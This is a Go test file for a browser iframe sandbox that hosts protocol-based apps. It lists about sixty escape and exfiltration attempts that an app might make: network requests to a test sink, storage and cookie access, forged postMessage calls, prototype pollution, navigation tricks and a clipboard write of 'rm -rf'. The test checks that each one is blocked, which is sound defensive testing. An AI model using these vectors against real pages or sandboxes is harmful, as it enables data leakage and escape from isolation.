package iframe

import (
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/bailey-go/bailey/internal/attack"
	"github.com/bailey-go/bailey/internal/frame"
	"github.com/bailey-go/bailey/internal/jsx"
	"github.com/bailey-go/bailey/internal/jsx/jsxtest"
	"github.com/bailey-go/bailey/internal/testpage"
	"github.com/bailey-go/bailey/internal/until"
	"github.com/bailey-go/bailey/protocol"
)

// plainApp is the beginning of an app without a library.
const plainApp = `const send = (m) => parent.postMessage({jsonrpc: "2.0", ...m}, "*"), waits = new Map(), notes = [];
let n = 0;
const ask = (method, params) => new Promise((ok, no) => { waits.set(++n, [ok, no]); send({id: n, method, params}) });
const log = (data) => send({method: "notifications/message", params: {level: "info", data}});
addEventListener("message", (e) => {
	if (e.source !== parent) return;
	const m = e.data, w = waits.get(m.id);
	if (w && !m.method) { waits.delete(m.id); return m.error ? w[1](new Error(m.error.message)) : w[0](m.result) }
	if (m.method === "ui/resource-teardown") return send({id: m.id, result: {}});
	notes.push(m); if (globalThis.noted) noted(m);
});
const start = async () => { const r = await ask("ui/initialize", {appInfo: {name: "t", version: "1"}, appCapabilities: {}, protocolVersion: "2026-01-26"}); send({method: "ui/notifications/initialized"}); return r };
`

// appLogs are the messages of an app for developers.
type appLogs struct {
	mu   sync.Mutex
	list []string
}

func (l *appLogs) add(_, text string) {
	l.mu.Lock()
	defer l.mu.Unlock()
	l.list = append(l.list, text)
}

func (l *appLogs) has(text string) bool {
	l.mu.Lock()
	defer l.mu.Unlock()
	for _, s := range l.list {
		if s == text || strings.HasSuffix(text, "…") && strings.HasPrefix(s, strings.TrimSuffix(text, "…")) {
			return true
		}
	}
	return false
}

func (l *appLogs) String() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return strings.Join(l.list, "\n")
}

func openApp(t *testing.T, html string, o AppOptions) (*App, *appLogs) {
	t.Helper()
	logs := &appLogs{}
	o.OnLog, o.AllowWithoutConnectionAllowlist = logs.add, true
	a, err := NewApp(testContext(t), place(t), protocol.App{HTML: html}, o)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { a.Close() })
	return a, logs
}

// appHeaders are the headers of a page that shows apps, with Trusted Types enforced.
func appHeaders(t *testing.T) map[string]string {
	h := policy(frame.ScriptHashes()...)
	p := h["Content-Security-Policy"]
	h["Content-Security-Policy"] = strings.Replace(p, "script-src ", "script-src blob: ", 1) + "; style-src 'none'; require-trusted-types-for 'script'; trusted-types bailey 'allow-duplicates'"
	return h
}

const richApp = `<!doctype html><html lang=en class=themed onclick="order.push('html')"><head><title>Rich</title><meta http-equiv=" content-security-policy" content="default-src 'none'; script-src 'unsafe-inline'; style-src 'unsafe-inline'"><style>p { color: rgb(1, 2, 3) }</style>
<script>globalThis.order = ["classic " + document.readyState]; addEventListener("load", () => order.push("load")); document.addEventListener("DOMContentLoaded", () => order.push("DOMContentLoaded"));</script>
<script type="application/json" id=data>{"a": 1}</script></head>
<body style="margin: 7px" onload="order.push('body loaded')" onresize="order.push('resized')"><a id=a href="https://a.invalid/" onclick="order.push('link'); return false">a</a><p id=p>text</p><i id=i style="width: 33px; display: block">x</i><button id=b onclick="order.push('clicked ' + event.type)">b</button><form id=f><input name=q value=v><button id=go>go</button></form>
<script type=module>` + plainApp + `
order.push("module " + document.readyState);
await new Promise((r) => setTimeout(r));
const $ = (id) => document.getElementById(id), css = (e) => getComputedStyle(e);
$("b").click();
$("a").click();
dispatchEvent(new Event("resize"));
$("f").addEventListener("submit", (e) => { e.preventDefault(); order.push("submitted") });
$("go").click();
const late = document.createElement("div");
late.innerHTML = "<b style='width: 44px; display: block'>y</b>";
document.body.append(late);
const sheet = document.createElement("style");
sheet.textContent = "#i { height: 55px }";
document.head.append(sheet);
$("p").setAttribute("style", "margin-top: 66px");
await new Promise((r) => setTimeout(r));
const host = await start();
log(order.join(", "));
log([css($("p")).color, css($("i")).width, css($("i")).height, css(late.firstChild).width, css(document.body).marginTop, css($("p")).marginTop, sheet.sheet.cssRules.length, document.documentElement.className, document.title, JSON.parse($("data").textContent).a].join(" "));
log(host.protocolVersion + " " + host.hostContext.theme + " " + Object.keys(host.hostCapabilities).sort());
globalThis.noted = async (m) => {
	if (m.method === "ui/notifications/tool-input") log("input " + JSON.stringify(m.params.arguments));
	if (m.method === "ui/notifications/host-context-changed") log("theme " + m.params.theme);
	if (m.method !== "ui/notifications/tool-result") return;
	log("result " + m.params.structuredContent.t);
	log("called " + (await ask("tools/call", {name: "more", arguments: {n: 2}})).content[0].text);
	send({method: "ui/notifications/size-changed", params: {width: 10, height: 321}});
	log("ping " + JSON.stringify(await ask("ping", {})));
	try { await ask("sampling/createMessage", {}) } catch (e) { log("no: " + e.message) }
};
for (const m of notes) noted(m);
</script></body></html>`

// An app that is written for common browsers works below the strictest page: inline scripts, styles,
// handlers and forms, in their order, with Trusted Types enforced and without any style-src.
func TestApp(t *testing.T) {
	skipInnermost(t)
	inBothModes(t, testRichApp)
}

// inBothModes runs f in a page for the opaque mode, and in one for the conforming mode.
func inBothModes(t *testing.T, f func(t *testing.T, mode func(AppOptions) AppOptions)) {
	t.Run("opaque", func(t *testing.T) {
		testpage.Run(t, testpage.Page{Header: appHeaders(t)}, func(t *testing.T) { f(t, func(o AppOptions) AppOptions { return o }) })
	})
	t.Run("conforming", func(t *testing.T) {
		testpage.Run(t, bare(t, ""), func(t *testing.T) { f(t, func(o AppOptions) AppOptions { return conforming(t, o) }) })
	})
}

func testRichApp(t *testing.T, mode func(AppOptions) AppOptions) {
	jsxtest.Check(t)
	a, logs := openApp(t, richApp, mode(AppOptions{Scheme: "dark", OnCall: func(_ context.Context, tool string, args map[string]any) (any, error) {
		return map[string]any{"content": []any{map[string]any{"type": "text", "text": fmt.Sprint(tool, args)}}}, nil
	}}))
	if err := errors.Join(a.Input(map[string]any{"city": "Berlin"}, true), a.Result(map[string]any{"content": []any{}, "structuredContent": map[string]any{"t": 7}})); err != nil {
		t.Fatal(err)
	}
	until.True(t, "the app has said everything", func() bool { return logs.has("no: …") || a.Err() != nil })
	loaded := "body loaded, load" // by the loader, and in the order of the browser in the conforming mode
	if a.host.opts.Proxy != "" {
		loaded = "load, body loaded"
	}
	for _, want := range []string{
		"classic loading, module interactive, DOMContentLoaded, " + loaded + ", clicked click, html, link, html, resized, html, submitted",
		"rgb(1, 2, 3) 33px 55px 44px 7px 66px 1 themed Rich 1", "2026-01-26 dark logging,sandbox,serverTools",
		`input {"city":"Berlin"}`, "result 7", "called moremap[n:2]", "ping {}", "no: this host has no sampling/createMessage",
	} {
		if !logs.has(want) {
			t.Errorf("no %q in\n%s", want, logs)
		}
	}
	if a.Height() != 321 {
		t.Errorf("height %d", a.Height())
	}
	if err := a.SetScheme("light"); err != nil {
		t.Error(err)
	}
	until.True(t, "the app knows the theme", func() bool { return logs.has("theme light") })
	if err := a.Close(); err != nil || a.Err() != ErrClosed {
		t.Errorf("closed: %v, %v", err, a.Err())
	}
}

// Without blob: in its policy a page says what it needs, and so it does without the hashes.
func TestAppBlocked(t *testing.T) {
	skipInnermost(t)
	testpage.Run(t, testpage.Page{Header: policy(frame.ScriptHashes()...)}, func(t *testing.T) {
		ended := make(chan error, 1)
		openApp(t, `<script>1</script>`, AppOptions{OnEnd: func(err error) { ended <- err }})
		if err := <-ended; !errors.Is(err, ErrFrameBlocked) || !strings.Contains(err.Error(), "blobScripts") {
			t.Errorf("ended with %v", err)
		}
	})
}

// A policy that an app adds blocks its own scripts, and nobody else is blamed.
func TestAppAddsPolicy(t *testing.T) {
	skipInnermost(t)
	testpage.Run(t, testpage.Page{Header: appHeaders(t)}, func(t *testing.T) {
		a, logs := openApp(t, `<script>`+plainApp+`start().then(() => {
	const m = document.createElement("meta"), s = document.createElement("script");
	m.httpEquiv = "Content-Security-Policy";
	m.content = "script-src 'none'";
	document.head.append(m);
	s.onerror = () => setTimeout(() => log("blocked"));
	s.src = URL.createObjectURL(new Blob(["log('ran')"]));
	document.head.append(s);
})</script>`, AppOptions{})
		until.True(t, "the script is blocked", func() bool { return logs.has("blocked") || logs.has("ran") || a.Err() != nil })
		if !logs.has("blocked") || a.Err() != nil {
			t.Errorf("%v, and the app said\n%s", a.Err(), logs)
		}
	})
}

func skipInnermost(t *testing.T) {
	if testpage.Has(testpage.NoInnermostScript) {
		t.Skip("WebKitGTK 2.50 starts no code in the innermost frame")
	}
}

// framed are attacks by an app against its frames. One succeeds if it returns "ESCAPED", or if a request
// reaches SINK/its number. alone is not tried with the defences off, because the test itself
// would end, or a window would open in front of the tests' page, in which nothing is drawn then. bare is
// not tried either: no layer stands in its way, but a reader, or the browser itself. In the conforming mode page
// is not tried, because the page is on another origin than the proxy.
var framed = []struct {
	name, code string
	alone      bool
	bare, page bool
}{
	{name: "fetch", code: `await fetch(SINK)`},
	{name: "fetch without CORS", code: `await fetch(SINK, {mode: "no-cors"})`},
	{name: "request of old", code: `const x = new XMLHttpRequest(); x.open("GET", SINK); x.send()`},
	{name: "beacon", code: `navigator.sendBeacon(SINK, "secret")`},
	{name: "socket", code: `new WebSocket(SINK.replace("http", "ws"))`},
	{name: "event source", code: `new EventSource(SINK)`},
	{name: "image", code: `new Image().src = SINK`},
	{name: "image of a set", code: `document.body.insertAdjacentHTML("beforeend", "<img srcset='" + SINK + " 1x'>")`},
	{name: "picture", code: `document.body.insertAdjacentHTML("beforeend", "<picture><source srcset='" + SINK + "'><img></picture>")`},
	{name: "script", code: `const s = document.createElement("script"); s.src = SINK; document.head.append(s)`},
	{name: "module", code: `const s = document.createElement("script"); s.type = "module"; s.src = SINK; document.head.append(s)`},
	{name: "import", code: `await import(SINK)`},
	{name: "style sheet", code: `document.head.insertAdjacentHTML("beforeend", "<link rel=stylesheet href='" + SINK + "'>")`},
	{name: "import of a style", code: `document.head.insertAdjacentHTML("beforeend", "<style>@import url('" + SINK + "')</style>")`},
	{name: "background", code: `document.body.style.backgroundImage = "url('" + SINK + "')"; document.body.offsetWidth`},
	{name: "font", code: `await new FontFace("f", "url('" + SINK + "')").load()`},
	{name: "video", code: `document.body.insertAdjacentHTML("beforeend", "<video src='" + SINK + "'></video>")`},
	{name: "object", code: `document.body.insertAdjacentHTML("beforeend", "<object data='" + SINK + "'></object>")`},
	{name: "frame", code: `document.body.insertAdjacentHTML("beforeend", "<iframe src='" + SINK + "'></iframe>")`},
	{name: "frame of a text", code: `const f = document.createElement("iframe"); f.srcdoc = "<img src='" + SINK + "'>"; document.body.append(f)`},
	{name: "prefetch", code: `document.head.insertAdjacentHTML("beforeend", "<link rel=prefetch href='" + SINK + "'>")`},
	{name: "preload", code: `document.head.insertAdjacentHTML("beforeend", "<link rel=preload as=image href='" + SINK + "'>")`},
	{name: "worker", code: `new Worker(URL.createObjectURL(new Blob(["fetch('" + SINK + "', {mode: 'no-cors'})"])))`},
	{name: "base", code: `const b = document.createElement("base"); b.href = SINK; document.head.append(b); await fetch("").catch(() => 0); b.remove()`},
	{name: "ping", code: `document.body.insertAdjacentHTML("beforeend", "<a id=ping href='#x' ping='" + SINK + "'>x</a>"); document.getElementById("ping").click()`, bare: true},
	{name: "window", code: `const w = open(SINK); return w ? "ESCAPED" : ""`, alone: true},
	{name: "form in a window", code: `document.body.insertAdjacentHTML("beforeend", "<form id=w target=_blank action='" + SINK + "'><input name=a></form>"); document.getElementById("w").submit()`, alone: true},
	{name: "peers", code: `return globalThis.RTCPeerConnection ? "ESCAPED" : ""`, alone: true},
	{name: "peers of a fresh frame", code: `const f = document.createElement("iframe"); document.body.append(f); try { return f.contentWindow.RTCPeerConnection ? "ESCAPED" : "" } catch (e) { return "" }`},
	{name: "peers of a frame with code", code: `const f = document.createElement("iframe"), code = URL.createObjectURL(new Blob(["parent.postMessage('peers ' + typeof RTCPeerConnection, '*')"])); f.srcdoc = "<script src='" + code + "'><\/script>"; const heard = new Promise((ok) => addEventListener("message", (e) => { if (e.source === f.contentWindow) ok(e.data) })); document.body.append(f); return (await heard) === "peers function" ? "ESCAPED" : ""`},
	{name: "code from a string", code: `return new Function("return 1")() ? "ESCAPED" : ""`},
	{name: "eval", code: `return (0, eval)("1") ? "ESCAPED" : ""`},
	{name: "timer with a string", code: `globalThis.ran = 0; setTimeout("ran = 1", 0); await new Promise((r) => setTimeout(r, 20)); return ran ? "ESCAPED" : ""`},
	{name: "document of the page", code: `return top.document ? "ESCAPED" : ""`, page: true},
	{name: "document around", code: `return parent.document ? "ESCAPED" : ""`},
	{name: "element around", code: `return frameElement ? "ESCAPED" : ""`},
	{name: "storage", code: `localStorage.setItem("a", "1"); return "ESCAPED"`},
	{name: "storage of the page", code: `return top.localStorage ? "ESCAPED" : ""`, page: true},
	{name: "cookies", code: `document.cookie = "a=1"; return "ESCAPED"`},
	{name: "database", code: `return await new Promise((ok) => { const r = indexedDB.open("x"); r.onsuccess = () => ok("ESCAPED"); r.onerror = () => ok("") })`},
	{name: "caches", code: `await caches.open("x"); return "ESCAPED"`},
	{name: "private files", code: `await navigator.storage.getDirectory(); return "ESCAPED"`},
	{name: "locks with the page", code: `await navigator.locks.request("x", () => 0); return "ESCAPED"`},
	{name: "channel to the page", code: `new BroadcastChannel("bailey-app-test").postMessage("ESCAPED")`, page: true},
	{name: "camera", code: `await navigator.mediaDevices.getUserMedia({video: true}); return "ESCAPED"`, alone: true},
	{name: "place", code: `return await new Promise((ok) => navigator.geolocation.getCurrentPosition(() => ok("ESCAPED"), () => ok("")))`, alone: true},
	{name: "clipboard", code: `await navigator.clipboard.readText(); return "ESCAPED"`, alone: true},
	{name: "writing the clipboard", code: `await navigator.clipboard.writeText("rm -rf"); return "ESCAPED"`, alone: true},
	{name: "notifications", code: `return (await Notification.requestPermission()) === "granted" ? "ESCAPED" : ""`, alone: true},
	{name: "full screen", code: `await document.documentElement.requestFullscreen(); return "ESCAPED"`, alone: true},
	{name: "the page's address", code: `top.location = SINK`, alone: true},
	{name: "the address around", code: `parent.location = SINK`, alone: true},
	{name: "a link to the top", code: `document.body.insertAdjacentHTML("beforeend", "<a id=top target=_top href='" + SINK + "'>x</a>"); document.getElementById("top").click()`, alone: true},
	{name: "forged hello", code: `const c = new MessageChannel(); c.port1.onmessage = () => log("stolen ESCAPED"); top.postMessage("bailey-app", "*", [c.port2]); parent.postMessage("bailey-app", "*", [new MessageChannel().port2])`, bare: true},
	{name: "forged end", code: `top.postMessage("ended\x1fflood", "*"); top.postMessage({jsonrpc: "2.0", id: "x", method: "tools/call", params: {name: "t"}}, "*")`, bare: true},
	{name: "a cycle", code: `const o = {jsonrpc: "2.0", method: "x"}; o.o = o; parent.postMessage(o, "*")`, bare: true},
	{name: "odd values", code: `for (const v of [1n, new Map([[1, 2]]), new Date(), null, undefined, "text", 5, [1], new Blob(["x"]), new ArrayBuffer(9)]) parent.postMessage(v, "*")`, bare: true},
	{name: "polluted prototypes", code: `Object.prototype.polluted = 1; Array.prototype.toJSON = () => "x"; parent.postMessage({jsonrpc: "2.0", method: "notifications/message", params: {level: "info", data: "fine"}}, "*"); delete Object.prototype.polluted; delete Array.prototype.toJSON`, bare: true},
	{name: "a large message", code: `const id = ++n, big = new Promise((ok, no) => waits.set(id, [ok, no])); send({id, method: "ping", params: {a: "x".repeat(3 << 20)}}); await big`, bare: true},
	// These two stay in the document, so they are the last ones.
	{name: "policy of its own", code: `document.head.insertAdjacentHTML("beforeend", "<meta http-equiv=Content-Security-Policy content='default-src *'>"); new Image().src = SINK`},
	{name: "report", code: `document.head.insertAdjacentHTML("beforeend", "<meta http-equiv=Content-Security-Policy content=\"img-src 'none'; report-uri " + SINK + "\">"); new Image().src = "data:,"`, bare: true},
}

func framedApp(sink string, off bool) string {
	var b strings.Builder
	for i, a := range framed {
		if !off || !a.alone && !a.bare {
			fmt.Fprintf(&b, "[%d, async (SINK) => { %s }],\n", i, a.code)
		}
	}
	return `<body><script type=module>` + plainApp + `await start();
for (const [i, f] of [` + b.String() + `]) {
	let r = "";
	try { r = await Promise.race([f("` + sink + `/" + i + "/"), new Promise((ok) => setTimeout(ok, 3000))]) } catch (e) {}
	log(i + " " + (r === "ESCAPED" ? r : ""));
}
await new Promise((r) => setTimeout(r, 300));
log("done");
</script>`
}

// No app reaches the network, another window, a storage or the page.
func TestAttackAppFrames(t *testing.T) {
	skipInnermost(t)
	attackFrames(t, attack.Start(t, "apps"), false)
}

// attackFrames tries all of framed in a mode.
func attackFrames(t *testing.T, count *attack.Table, conforms bool) {
	mode := func(o AppOptions) AppOptions {
		switch {
		case conforms && len(o.layers) > 0:
			return conforming(t, o, policyEdit...)
		case conforms:
			return conforming(t, o)
		}
		return o
	}
	controlled := func(i int) bool { f := framed[i]; return !f.alone && !f.bare && !(f.page && conforms) }
	run := func(layers ...frame.Layer) map[int]bool {
		sink := testpage.Sink(t)
		calls := &appLogs{}
		scope := jsx.NewScope(jsx.ScopeOptions{})
		defer scope.Close()
		channel := must(jsx.NewGlobal("BroadcastChannel", "bailey-app-test"))(t)
		defer jsx.Call(channel, "close")
		if _, err := scope.Listen(channel, "message", func(jsx.Value) { calls.add("", "channel") }); err != nil {
			t.Fatal(err)
		}
		ended := make(chan error, 1)
		a, logs := openApp(t, framedApp(sink.URL, len(layers) > 0), mode(AppOptions{layers: layers, OnEnd: func(err error) { ended <- err },
			OnCall: func(_ context.Context, tool string, _ map[string]any) (any, error) {
				calls.add("", tool)
				return nil, nil
			}}))
		until.True(t, "all attacks are made", func() bool { return logs.has("done") || a.Err() != nil })
		if !logs.has("done") {
			t.Errorf("the app ended with %v after\n%s", a.Err(), logs)
		}
		winners := func() map[int]bool {
			won := map[int]bool{}
			for i, f := range framed {
				won[i] = logs.has(fmt.Sprint(i, " ESCAPED")) || f.name == "forged hello" && logs.has("stolen ESCAPED") || f.name == "channel to the page" && calls.has("channel") || f.name == "forged end" && calls.has("t")
			}
			for _, r := range sink.Requests() {
				at := 0
				if _, err := fmt.Sscanf(strings.TrimPrefix(strings.Replace(r.URL, "ws", "http", 1), sink.URL), "/%d/", &at); err == nil {
					won[at] = true
				}
			}
			return won
		}
		won := winners()
		if len(layers) > 0 { // a request may still be on its way
			until.True(t, "each attack succeeds with the layers off", func() bool {
				won = winners()
				for i := range framed {
					if !won[i] && controlled(i) {
						return false
					}
				}
				return true
			})
		}
		if polluted, err := jsx.Lookup(jsx.Global(), "Object.prototype.polluted"); err == nil && !jsx.Nullish(polluted) {
			t.Error("the page's prototypes are polluted")
		}
		a.Close()
		return won
	}
	won, open := run(), run(frame.LayerPolicy, frame.LayerFrames)
	for i, f := range framed {
		count.Try(f.name, won[i])
		if controlled(i) {
			count.Off(f.name, open[i])
		}
	}
	leavers := map[string]string{
		"its own address": `location.href = SINK`, "a replaced address": `location.replace(SINK + "?secret")`, "a refresh": `document.head.insertAdjacentHTML("beforeend", "<meta http-equiv=refresh content='0;url=" + SINK + "'>")`,
		"a form": `document.body.insertAdjacentHTML("beforeend", "<form id=f action='" + SINK + "'><input name=a></form>"); document.getElementById("f").submit()`,
		"data":   `location.href = "data:text/html,x"`, "a blob": `location.href = URL.createObjectURL(new Blob(["<script>parent.postMessage(1, '*')<\/script>"], {type: "text/html"}))`,
	}
	for name, code := range leavers {
		sink := testpage.Sink(t)
		ended := make(chan error, 1)
		a, logs := openApp(t, `<body><script>`+plainApp+`start().then(async () => { const SINK = "`+sink.URL+`"; `+code+`; await new Promise((r) => setTimeout(r, 500)); log("stays") })</script>`, mode(AppOptions{OnEnd: func(err error) { ended <- err }}))
		until.True(t, name+" is left or refused", func() bool { return logs.has("stays") || a.Err() != nil })
		if err := a.Err(); err != nil && !errors.Is(err, ErrFrameLost) {
			t.Errorf("%s: %v", name, err)
		}
		count.Try("leaving by "+name, len(sink.Requests()) != 0)
		a.Close()
	}
	// A flood ends the app, and not the page.
	for name, code := range map[string]string{"messages": `for (let i = 0; i < 5000; i++) send({method: "x"})`, "texts": `for (let i = 0; i < 5000; i++) parent.postMessage("x", "*")`} {
		a, _ := openApp(t, `<script>`+plainApp+code+`</script>`, mode(AppOptions{}))
		until.True(t, "the flood ends", func() bool { return a.Err() != nil })
		count.Try("a flood of "+name, !errors.Is(a.Err(), ErrFrameLost))
		a.Close()
	}
}

// The official SDK connects, and its messages mean what they say.
func TestAppOfTheSDK(t *testing.T) {
	skipInnermost(t)
	sdk, err := os.ReadFile(filepath.Join("..", "node_modules", "@modelcontextprotocol", "ext-apps", "dist", "src", "app-with-deps.js"))
	if err != nil {
		t.Skip("the peer is missing: make node_modules installs it")
	}
	// The module's export becomes a global, as a bundler would do.
	text, exports, ok := strings.Cut(string(sdk), "export{")
	list, _, _ := strings.Cut(exports, "}")
	if !ok || strings.Contains(list, "export{") {
		t.Fatal("app-with-deps.js is not of the form that this test expects")
	}
	for _, e := range strings.Split(list, ",") {
		if from, to, ok := strings.Cut(e, " as "); ok {
			text += ";globalThis.sdk_" + to + "=" + from
		} else {
			text += ";globalThis.sdk_" + e + "=" + e
		}
	}
	html := `<!doctype html><body><p style="height: 200px">x</p><script>for (const k of ["error", "unhandledrejection"]) addEventListener(k, (e) => parent.postMessage({jsonrpc: "2.0", method: "notifications/message", params: {level: "error", data: "failed: " + (e.message ?? e.reason)}}, "*"))</script><script type=module>` + strings.ReplaceAll(text, "</script", `<\/script`) + `
const app = new sdk_App({name: "test", version: "1"}, {}, {autoResize: true});
app.ontoolinput = (p) => app.sendLog({level: "info", data: "input " + JSON.stringify(p.arguments)});
app.ontoolinputpartial = (p) => app.sendLog({level: "info", data: "partial " + JSON.stringify(p.arguments)});
app.ontoolcancelled = (p) => app.sendLog({level: "info", data: "cancelled " + p.reason});
app.onhostcontextchanged = (p) => app.sendLog({level: "info", data: "theme " + p.theme});
app.onteardown = async () => { await app.callServerTool({name: "save", arguments: {}}); return {} };
app.ontoolresult = async (p) => {
	const say = (data) => app.sendLog({level: "info", data});
	await say("result " + p.structuredContent.t);
	await say("called " + (await app.callServerTool({name: "more", arguments: {n: 2}})).content[0].text);
	await say("read " + (await app.readServerResource({uri: "ui://x/data"})).contents[0].text);
	await say("message " + JSON.stringify(await app.sendMessage({role: "user", content: [{type: "text", text: "hi"}]})));
	await say("link " + (await app.openLink({url: "javascript:1"})).isError);
	await say("file " + (await app.downloadFile({contents: [{type: "resource", resource: {uri: "file:///a.txt", mimeType: "text/plain", text: "x"}}]})).isError);
	await app.updateModelContext({content: [{type: "text", text: "seen"}]});
	await say("mode " + (await app.requestDisplayMode({mode: "fullscreen"})).mode);
	await say("host " + app.getHostVersion().name + " " + app.getHostContext().theme);
	await say("end");
};
await app.connect();
</script>`
	inBothModes(t, func(t *testing.T, mode func(AppOptions) AppOptions) {
		did := &appLogs{}
		a, logs := openApp(t, html, mode(AppOptions{Scheme: "light", off: appOff{hurry: true},
			Ask: func(_ context.Context, kind, text string) bool {
				did.add("", "ask "+kind+" "+text)
				return kind == "message"
			},
			OnMessage: func(_ context.Context, text string) error { did.add("", "message "+text); return nil },
			OnContext: func(text string) { did.add("", "context "+text) },
			OnCall: func(_ context.Context, tool string, args map[string]any) (any, error) {
				did.add("", "call "+tool)
				return map[string]any{"content": []any{map[string]any{"type": "text", "text": fmt.Sprint(tool, args)}}}, nil
			},
			OnRead: func(_ context.Context, uri string) (any, error) {
				return map[string]any{"contents": []any{map[string]any{"uri": uri, "text": "data"}}}, nil
			}}))
		if err := errors.Join(a.Input(map[string]any{"city": "Be"}, false)); err != nil {
			t.Fatal(err)
		}
		until.True(t, "the partial input arrives", func() bool { return logs.has(`partial {"city":"Be"}`) || logs.has("failed: …") || a.Err() != nil })
		if logs.has("failed: …") {
			t.Fatal(logs)
		}
		if err := errors.Join(a.Input(map[string]any{"city": "Berlin"}, true), a.Result(map[string]any{"content": []any{}, "structuredContent": map[string]any{"t": 7}})); err != nil {
			t.Fatal(err)
		}
		until.True(t, "the app has said everything", func() bool { return logs.has("end") || a.Err() != nil })
		for _, want := range []string{`partial {"city":"Be"}`, `input {"city":"Berlin"}`, "result 7", "called moremap[n:2]", "read data", "message {}", "link true", "file true", "mode inline", "host bailey light"} {
			if !logs.has(want) {
				t.Errorf("no %q in\n%s\n%v", want, logs, a.Err())
			}
		}
		for _, want := range []string{"ask message hi", "message hi", "context seen", "ask download a.txt (1 bytes)"} {
			if !did.has(want) {
				t.Errorf("the host did not: %q in\n%s", want, did)
			}
		}
		_ = errors.Join(a.SetScheme("dark"), a.Cancelled("by the user"))
		until.True(t, "the app knows the theme", func() bool { return logs.has("theme dark") && logs.has("cancelled by the user") })
		until.True(t, "the app says its height", func() bool { return a.Height() > 120 })
		a.Close()
		if !did.has("call save") {
			t.Error("the app could not store its state at its end")
		}
	})
}
